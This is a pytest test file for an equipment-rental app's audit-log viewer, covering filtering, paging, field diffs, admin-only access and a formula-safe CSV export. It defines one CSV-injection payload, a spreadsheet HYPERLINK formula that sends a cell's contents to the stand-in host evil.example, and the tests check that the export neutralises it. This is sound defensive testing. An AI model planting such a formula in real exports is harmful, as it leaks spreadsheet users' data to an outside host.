"""The audit-log viewer on SQLite and PostgreSQL: filters, paging, old -> new diffs, the
filter choices, and a CSV export no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session

from avrentals.db import transaction
from avrentals.domain.enums import Role
from avrentals.domain.errors import Forbidden, ValidationFailed
from avrentals.domain.models import AuditLog, User
from avrentals.domain.pagination import PageRequest
from avrentals.domain.services import audit_viewer as viewer
from avrentals.domain.services.audit_viewer import AuditFilters
from avrentals.domain.services.auth import actor_of
from avrentals.domain.services.clients import create_client
from tests.factories import make_actor, make_user
from tests.inventory_factories import insert

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def entry(
    user: User | None, action: str, entity: str, at: datetime, old: Any = None, new: Any = None
) -> AuditLog:
    return AuditLog(
        actor_id=user.id if user else None,
        actor_username=user.username if user else "ghost",
        action=action,
        entity_type=entity,
        entity_id="e-1",
        old_values=old,
        new_values=new,
        ip="10.0.0.1",
        at=at,
    )


@pytest.fixture
def log(engine: Engine) -> dict[str, Any]:
    ana = make_user(engine, Role.ADMIN, username="ana-admin")
    bo = make_user(engine, Role.MANAGER, username="bo-manager")
    rows = [
        entry(ana, "create", "client", datetime(2030, 1, 1, 9, tzinfo=UTC), None, {"name": "A"}),
        entry(
            ana,
            "update",
            "client",
            datetime(2030, 1, 2, 23, 59, tzinfo=UTC),
            {"name": "A", "phone": "1", "email": "a@x.pt"},
            {"name": EVIL, "phone": "1", "email": None},
        ),
        entry(
            bo,
            "update",
            "equipment",
            datetime(2030, 1, 3, 0, 0, tzinfo=UTC),
            {"qty": 2},
            {"qty": 3},
        ),
        entry(
            bo, "delete", "equipment", datetime(2030, 1, 4, 12, tzinfo=UTC), {"name": "-1+2"}, None
        ),
        entry(None, "login_failed", "user", datetime(2030, 1, 5, tzinfo=UTC), None, {"ok": False}),
    ]
    for row in rows:
        insert(engine, row)
    return {"ana": ana, "bo": bo, "admin": actor_of(ana)}


def actions(page: Any) -> list[str]:
    return [f"{e['username']}:{e['action']}:{e['entityType']}" for e in page.items]


def listing(engine: Engine, admin: Any, paging: PageRequest | None = None, **filters: Any):
    with Session(engine) as s:
        return viewer.list_entries(
            s, admin, AuditFilters.parse(**filters), paging or PageRequest(1, 20)
        )


def test_newest_first_and_each_filter(engine: Engine, log: dict) -> None:
    admin = log["admin"]
    everything = listing(engine, admin)
    assert everything.total == 5
    assert actions(everything) == [
        "ghost:login_failed:user",
        "bo-manager:delete:equipment",
        "bo-manager:update:equipment",
        "ana-admin:update:client",
        "ana-admin:create:client",
    ]
    assert actions(listing(engine, admin, user_id=str(log["bo"].id))) == [
        "bo-manager:delete:equipment",
        "bo-manager:update:equipment",
    ]
    assert listing(engine, admin, entity_type="client").total == 2
    assert actions(listing(engine, admin, action="update")) == [
        "bo-manager:update:equipment",
        "ana-admin:update:client",
    ]
    # Inclusive calendar days (UTC): 2 Jan 23:59 and 3 Jan 00:00 are both in 2-3 Jan.
    assert actions(listing(engine, admin, date_from="2030-01-02", date_to="2030-01-03")) == [
        "bo-manager:update:equipment",
        "ana-admin:update:client",
    ]
    combined = listing(engine, admin, user_id=log["ana"].id, action="update", date_to="2030-01-02")
    assert actions(combined) == ["ana-admin:update:client"]
    assert listing(engine, admin, entity_type="quote").total == 0


def test_paging(engine: Engine, log: dict) -> None:
    pages = [listing(engine, log["admin"], PageRequest(n, 2)) for n in (1, 2, 3)]
    assert [len(p.items) for p in pages] == [2, 2, 1]
    assert pages[0].total_pages == 3
    seen = [e["id"] for p in pages for e in p.items]
    assert len(set(seen)) == 5


def test_diff_lists_changed_fields_only(engine: Engine, log: dict) -> None:
    page = listing(engine, log["admin"], entity_type="client")
    update, create = page.items
    assert update["changes"] == [
        {"field": "email", "old": "a@x.pt", "new": ""},
        {"field": "name", "old": "A", "new": EVIL},
    ]
    assert create["changes"] == [{"field": "name", "old": "", "new": "A"}]
    deleted = listing(engine, log["admin"], action="delete").items[0]
    assert deleted["changes"] == [{"field": "name", "old": "-1+2", "new": ""}]
    assert viewer.diff({"a": [1, 2]}, {"a": {"b": True}}) == [
        {"field": "a", "old": "[1, 2]", "new": '{"b": true}'}
    ]


def test_real_mutation_shows_up_with_its_diff(engine: Engine) -> None:
    admin = make_actor(engine, Role.ADMIN)
    with transaction(engine) as s:
        create_client(s, admin, {"name": "Diff Probe Ltd", "email": "probe@example.com"})
    page = listing(engine, admin, entity_type="client", action="create")
    assert page.total == 1
    fields = {c["field"]: c["new"] for c in page.items[0]["changes"]}
    assert fields["name"] == "Diff Probe Ltd"
    assert page.items[0]["username"] == admin.username


def test_filter_options(engine: Engine, log: dict) -> None:
    with Session(engine) as s:
        options = viewer.filter_options(s, log["admin"])
    assert [u["username"] for u in options["users"]] == ["ana-admin", "bo-manager"]
    assert options["entityTypes"] == ["client", "equipment", "user"]
    assert options["actions"] == ["create", "delete", "login_failed", "update"]


def test_csv_export_is_formula_safe(engine: Engine, log: dict) -> None:
    with Session(engine) as s:
        data = viewer.export_csv(s, log["admin"], AuditFilters.parse())
        only_bo = viewer.export_csv(s, log["admin"], AuditFilters.parse(user_id=log["bo"].id))
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == list(viewer.CSV_COLUMNS)
    assert len(rows) == 6
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    deleted = next(r for r in rows if r[2] == "delete")
    assert deleted[6] == "name: -1+2 -> "
    updated = next(r for r in rows if r[2] == "update" and r[3] == "client")
    assert updated[6] == f"email: a@x.pt -> ; name: A -> {EVIL}"
    assert updated[0] == "2030-01-02T23:59:00Z" and updated[1] == "ana-admin"
    # A cell that would start a formula gets a leading quote (the shared neutraliser).
    evil_cell = viewer._csv_row(
        entry(None, "update", "client", datetime(2030, 1, 1, tzinfo=UTC), None, {"n": 1})
    )
    assert evil_cell[1] == "ghost"
    formula = entry(log["ana"], EVIL, "client", datetime(2030, 1, 1, tzinfo=UTC))
    assert viewer._csv_row(formula)[2] == "'" + EVIL
    assert len(list(csv.reader(io.StringIO(only_bo.decode().lstrip("\ufeff"))))) == 3


@pytest.mark.parametrize("role", [Role.MANAGER, Role.TECHNICIAN, Role.EMPLOYEE, Role.VIEWER])
def test_only_admins_read_the_log(engine: Engine, role: Role) -> None:
    actor = make_actor(engine, role)
    with Session(engine) as s:
        with pytest.raises(Forbidden):
            viewer.list_entries(s, actor, AuditFilters(), PageRequest())
        with pytest.raises(Forbidden):
            viewer.filter_options(s, actor)
        with pytest.raises(Forbidden):
            viewer.export_csv(s, actor, AuditFilters())


@pytest.mark.parametrize(
    ("filters", "field"),
    [
        ({"user_id": "not-a-uuid"}, "userId"),
        ({"date_from": "2030-13-01"}, "from"),
        ({"date_to": "yesterday"}, "to"),
        ({"date_from": "2030-01-05", "date_to": "2030-01-04"}, "to"),
        ({"entity_type": "x" * 41}, "entityType"),
        ({"action": ["update"]}, "action"),
    ],
)
def test_bad_filters_are_refused(filters: dict, field: str) -> None:
    with pytest.raises(ValidationFailed) as exc:
        AuditFilters.parse(**filters)
    assert field in exc.value.fields


def test_dates_parse() -> None:
    parsed = AuditFilters.parse(date_from="2030-01-01", date_to=date(2030, 1, 2))
    assert (parsed.date_from, parsed.date_to) == (date(2030, 1, 1), date(2030, 1, 2))


def test_extreme_dates_are_open_bounds(engine: Engine, log: dict) -> None:
    wide = listing(engine, log["admin"], date_from="0001-01-01", date_to="9999-12-31")
    assert wide.total == 5
